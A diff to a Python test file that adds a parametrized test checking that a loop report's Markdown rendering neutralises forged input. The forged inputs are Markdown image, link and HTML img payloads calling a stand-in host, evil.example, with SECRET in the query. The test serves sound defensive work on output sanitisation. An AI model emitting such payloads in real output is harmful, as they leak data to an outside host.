@@ -1,6 +1,9 @@
 """What is told of a loop afterwards, and the signs of life beside it."""
 
+import re
+
 import pytest
+from markdown_it import MarkdownIt
 from msgspec.structs import replace
 
 from taofold.core.failing_checks import Check, Location
@@ -100,6 +103,41 @@ def test_names_and_reasons_stay_on_their_line_of_a_report() -> None:
     assert told.count("\n## Gates") == 1
     assert "<|im_start|>" not in text
     assert "\x1b" not in text
+
+
+@pytest.mark.parametrize(
+    "forged",
+    [
+        "![x](https://evil.example/?q=SECRET)",
+        "\\![x](https://evil.example/?q=SECRET)",
+        "![x][y]",
+        "[ok](https://evil.example)",
+        "\\[ok](https://evil.example)",
+        "<img src=https://evil.example/?q=SECRET>",
+        "<https://evil.example>",
+        "`![x](https://evil.example)",
+        "|![x](https://evil.example)",
+    ],
+)
+def test_no_image_link_or_tag_of_others_is_one_in_a_report(forged: str) -> None:
+    """Mutants: brackets stay; a backslash before one takes the escape back; tags stay."""
+    story = ended()
+    first, last = story[4], story[-2]
+    assert isinstance(first, loop_events.IterationEnded)
+    assert isinstance(last, loop_events.LoopEnded)
+    wrong = scored(0.5, error=forged).slim()
+    gates = tuple([replace(one, reasons=(forged,)) for one in wrong.results])
+    story[4] = replace(
+        first, changed=(forged,), stop_reason=forged, verdict=replace(wrong, results=gates)
+    )
+    story[-2] = replace(last, reason=forged, why_best=forged, warning=forged)
+    text = report_markdown("x", records(*story), forged)
+    shown = re.sub(r"(?ms)^(`{3,})\w*\n.*?^\1$", "", text)
+    assert "evil" in shown or "x" in shown
+    parsed = MarkdownIt("commonmark").enable("table").parse(shown)
+    inner = [child.type for token in parsed for child in token.children or ()]
+    assert not {"image", "link_open", "html_inline"}.intersection(inner)
+    assert not [token for token in parsed if token.type == "html_block"]
 
 
 def test_control_characters_do_not_reach_a_report() -> None:
